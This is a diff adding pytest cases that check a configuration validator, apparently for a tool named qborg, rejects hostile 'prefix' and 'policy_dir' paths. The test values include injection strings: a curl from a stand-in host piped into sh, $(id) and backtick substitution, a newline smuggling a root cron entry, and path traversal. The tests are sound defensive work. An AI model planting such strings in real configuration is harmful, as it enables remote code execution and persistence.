@@ -276,6 +276,41 @@ def test_hostile_host_key_fails_naming_the_field(merged, value):
     assert str(exc.value).startswith("qborg:server:host_key:")
     assert "fix it in the qborg pillar" in str(exc.value)
 
+
+@pytest.mark.parametrize("key", ["prefix", "policy_dir"])
+@pytest.mark.parametrize("value", [
+    "/usr/local/bin/x;curl http://evil.example/x|sh;#",
+    "/usr/local/$(id)",
+    "/usr/local/`id`",
+    "/usr/local bin",
+    "/usr/local\n* * * * * root sh",
+    "/usr/local'",
+    "/usr/local/../../etc",
+    "/usr/./local",
+    "//usr/local",
+    "/usr//local",
+    "usr/local",
+    "~/bin",
+    "/" + "a" * 201,
+    ["/usr/local"],
+], ids=["semicolon-pipe", "dollar-paren", "backtick", "space", "newline", "quote", "dotdot",
+        "dot", "double-slash-start", "double-slash", "relative", "tilde", "too-long", "list"])
+def test_hostile_prefix_and_policy_dir_fail_naming_the_field(merged, key, value):
+    merged.setdefault("paths", {})[key] = value
+    with pytest.raises(core.QborgConfigError) as exc:
+        core.validate_settings(merged)
+    assert str(exc.value).startswith(f"qborg:paths:{key}:")
+    assert "plain absolute path such as /usr/local" in str(exc.value)
+    assert "fix it in the qborg pillar" in str(exc.value)
+
+
+@pytest.mark.parametrize("value", ["/usr/local", "/usr/local/", "/opt/qborg-1.2_x",
+                                   "/rw/usrlocal", "/"])
+def test_plain_absolute_prefixes_are_accepted(merged, value):
+    merged.setdefault("paths", {})["prefix"] = value
+    assert core.validate_settings(merged)["paths"]["prefix"] == (value.rstrip("/") or "/")
+
+
 def test_templates_and_admin_template_are_qube_names(merged):
     merged["templates"] = ["debian-12-xfce", "fedora-41"]
     merged["admin_template"] = "debian-12-xfce"
